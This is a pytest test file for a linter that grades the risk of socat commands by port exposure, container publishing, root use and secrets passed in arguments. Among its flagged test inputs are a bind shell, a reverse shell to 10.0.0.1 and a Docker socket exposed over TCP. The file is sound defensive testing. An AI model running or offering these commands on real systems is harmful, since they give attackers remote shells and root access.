"""Where a command runs decides how far it reaches, never how bad a thing is in itself."""

from __future__ import annotations

import pytest

from catflap.address.model import Literal
from catflap.bridge.invocation import read_invocation
from catflap.core.facts import Facts
from catflap.core.spans import Span
from catflap.core.surroundings import Publication, Surroundings
from catflap.findings.finding import Severity
from catflap.rules.registry import judge_bridge
from tests.support.judging import judge_line, verdict_of

LISTENER = "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:9000"
DOCKER = "socat TCP-LISTEN:2375,fork UNIX:/var/run/docker.sock"


def container(*published: tuple[str | None, str | None], **facts: bool) -> Surroundings:
    """Return a container whose ports are published so."""
    return Surroundings(
        container=True,
        published=tuple(Publication(host, port) for host, port in published),
        **facts,  # type: ignore[arg-type]
    )


@pytest.mark.parametrize(
    ("place", "severity"),
    [
        (Surroundings(container=True), "high"),
        (container(("127.0.0.1", "8080")), None),
        (container(("::1", None)), None),
        (container(("", "8080")), "high"),
        (container(("127.0.0.1", "8080"), ("", "8080")), "high"),
        (container(("192.168.1.5", "8080")), "medium"),
        (container((None, "8080")), "high"),
        (container(own_network=True), "medium"),
        (container(("", "9999"), own_network=True), "medium"),
        (container(("127.0.0.1", "9999")), "high"),
        (container(("127.0.0.1", "8080"), host_network=True), "high"),
        (Surroundings(elsewhere=True), "high"),
        (Surroundings(document=True), "high"),
    ],
)
def test_how_far_a_container_reaches(place: Surroundings, severity: str | None) -> None:
    """A port published on loopback stays on the host; one of which nothing is known may not."""
    assert verdict_of(LISTENER, surroundings=place).get("plaintext-exposed") == severity


def test_loopback_inside_a_container_is_reached_by_nobody() -> None:
    """Publishing does not reach the container's own loopback."""
    place = container(("", "8080"))
    line = "socat TCP-LISTEN:8080,bind=127.0.0.1,fork TCP:127.0.0.1:9000"
    assert "plaintext-exposed" not in verdict_of(line, surroundings=place)


@pytest.mark.parametrize(
    ("place", "severity"),
    [
        (container(("127.0.0.1", "2375")), "high"),
        (container(own_network=True), "critical"),
        (Surroundings(container=True), "critical"),
    ],
)
def test_root_behind_a_container(place: Surroundings, severity: str) -> None:
    """From the host's loopback it is a local way to root; from any network it is root."""
    assert verdict_of(DOCKER, surroundings=place)["docker-socket-exposed"] == severity


def test_a_port_that_is_not_known_counts_as_published() -> None:
    """An unknown port may be the one that is published."""
    found = judge_line(LISTENER, surroundings=container((None, None)))
    assert (found[0].rule, str(found[0].confidence)) == ("plaintext-exposed", "low")


def test_the_mend_in_a_container_is_the_publication() -> None:
    """Binding loopback in a container would cut it off."""
    (finding,) = judge_line(LISTENER, surroundings=Surroundings(container=True))
    assert "publishing the port on 127.0.0.1" in finding.mend
    assert "bind=127.0.0.1" not in finding.mend


@pytest.mark.parametrize(
    ("user", "uid", "told"),
    [("root", None, True), ("0", None, True), ("", 0, True), ("app", None, False),
     ("app", 0, False), ("", None, False)],
)  # fmt: skip
def test_who_starts_it(user: str, uid: int | None, told: bool) -> None:
    """What the file shows goes before what the process is."""
    line = "socat -T 9 TCP-LISTEN:8080,bind=127.0.0.1 TCP:127.0.0.1:9000"
    found = verdict_of(line, Facts(uid=uid), Surroundings(user=user))
    assert ("runs-as-root" in found) is told


def test_what_ends_by_itself_needs_no_timeout() -> None:
    """``timeout 30 socat ...`` holds no session for ever."""
    line = "socat TCP-LISTEN:8080,bind=127.0.0.1 TCP:127.0.0.1:9000"
    assert "no-timeout" in verdict_of(line)
    assert "no-timeout" not in verdict_of(line, surroundings=Surroundings(bounded=True))


def test_a_container_may_open_every_address() -> None:
    """It has no other that a published port reaches."""
    line = (
        "socat OPENSSL-LISTEN:8443,bind=0.0.0.0,range=10.0.0.0/8,cert=c,cafile=ca "
        "TCP:127.0.0.1:9000"
    )
    assert "wildcard-bind" in verdict_of(line)
    assert "wildcard-bind" not in verdict_of(line, surroundings=Surroundings(container=True))


def test_a_service_keeps_what_it_writes() -> None:
    """What goes to a terminal is gone; what journald keeps is a log."""
    line = "socat -v UNIX-LISTEN:/run/a.sock UNIX:/run/b.sock"
    assert verdict_of(line)["payload-logged"] == "info"
    assert verdict_of(line, surroundings=Surroundings(supervised_log=True)) == {
        "payload-logged": "low"
    }


@pytest.mark.parametrize(
    "line",
    [
        "socat TCP-LISTEN:8080,bind=127.0.0.1,fork,max-children=9 TCP:127.0.0.1:9000",
        "socat UNIX-LISTEN:/run/a.sock,fork UNIX:/run/b.sock",
        "socat - TCP:127.0.0.1:9000",
        (
            "socat -d -d -T 600 OPENSSL-LISTEN:8443,bind=10.0.0.5,range=10.0.0.0/16,fork,"
            "max-children=50,cert=s.pem,cafile=ca.pem TCP:127.0.0.1:9000"
        ),
        "socat - OPENSSL:api.internal:8443,cafile=ca.pem",
        "socat PTY,link=/tmp/a,raw PTY,link=/tmp/b,raw",
        "socat -u UDP-RECV:514,bind=127.0.0.1 OPEN:/var/log/x,creat,append",
        "socat TCP-LISTEN:80,bind=127.0.0.1,fork EXEC:./handler",
    ],
)
def test_a_clean_command(line: str) -> None:
    """What a good reviewer lets pass warns of nothing."""
    assert all(finding.severity < Severity.MEDIUM for finding in judge_line(line))


@pytest.mark.parametrize(
    "line",
    [
        LISTENER,
        DOCKER,
        "socat TCP-LISTEN:4444,fork EXEC:/bin/bash,pty,stderr",
        "socat OPENSSL-LISTEN:443,fork,cert=s.pem,verify=0 TCP:db.internal:5432",
        "socat -v UDP-LISTEN:53,fork UDP:8.8.8.8:53",
        "socat OPENSSL:10.0.0.1:443,verify=0 EXEC:bash",
        "socat - PROXY:proxy:a.b:80,proxyauth=a:b",
    ],
)
def test_a_bad_command_is_told_in_few_findings(line: str) -> None:
    """One root cause is one finding; a reader is not drowned."""
    assert 1 <= len(judge_line(line)) <= 4


def test_a_mend_takes_no_more_of_the_source_than_the_option() -> None:
    """Where an option is put together from several places, the lines between stay out."""
    source = "opts=fork\nsecret words\nsocat TCP-LISTEN:80,$opts,reuseaddr TCP:127.0.0.1:9000"
    listener = (
        Literal("TCP-LISTEN:80,", Span(29, 43)),
        Literal("fork", Span(5, 9)),
        Literal(",reuseaddr", Span(48, 58)),
    )
    far = (Literal("TCP:127.0.0.1:9000", Span(59, 77)),)
    words = [(Literal("socat", Span(23, 28)),), listener, far]
    found = read_invocation(words, source, Surroundings())
    assert found is not None
    assert found.bridge is not None
    (finding,) = judge_bridge(found.bridge, Facts())
    assert "OPENSSL-LISTEN:80,fork,reuseaddr,cert=FILE,cafile=FILE" in finding.mend


def test_what_no_other_host_reaches_is_not_exposed():
    line = "socat TCP-LISTEN:80,fork UNIX-CONNECT:/run/app.sock"
    found = {each.rule for each in judge_line(line, surroundings=Surroundings(own_network=True))}
    assert "plaintext-exposed" not in found


@pytest.mark.parametrize(
    ("password", "severity"),
    [
        ("me:Trustno1", "high"),
        ("user:password", "medium"),
        ("USER:YOUR-PASSWORD", "medium"),
        ("me:", "medium"),
        ("me:changeme", "medium"),
    ],
)
def test_a_password_that_a_file_keeps_is_worse_than_one_that_comes_from_elsewhere(
    password, severity
):
    line = f"socat - PROXY:127.0.0.1:a.b:443,proxyauth={password}"
    kept = Surroundings(written=True)
    shown = Surroundings(written=True, document=True)
    assert verdict_of(line, surroundings=kept)["secret-in-arguments"] == severity
    assert verdict_of(line, surroundings=shown)["secret-in-arguments"] == "medium"
    assert verdict_of(line)["secret-in-arguments"] == "medium"


@pytest.mark.parametrize(
    ("bind", "severity"),
    [
        ("bind=127.0.0.1", None),
        ("bind=100.64.3.4", "medium"),
        ("so-bindtodevice=wg0", "medium"),
        ("bind=127-0-0-1.example", "high"),
        ("bind=localhost.example", "high"),
        ("bind=1271", "high"),
    ],
)
def test_how_far_an_address_or_a_device_reaches(bind, severity):
    line = f"socat TCP-LISTEN:8080,{bind},fork TCP:127.0.0.1:9000"
    assert verdict_of(line).get("plaintext-exposed") == severity
